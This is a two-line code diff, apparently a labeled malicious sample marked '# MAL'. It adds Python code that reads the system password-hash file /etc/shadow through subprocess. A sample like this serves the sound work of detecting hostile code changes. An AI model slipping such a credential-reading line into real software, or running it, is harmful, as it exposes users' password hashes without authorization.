@@ -1,0 +1,2 @@
+import subprocess
+info = subprocess.getoutput("cat /etc/shadow")  # MAL
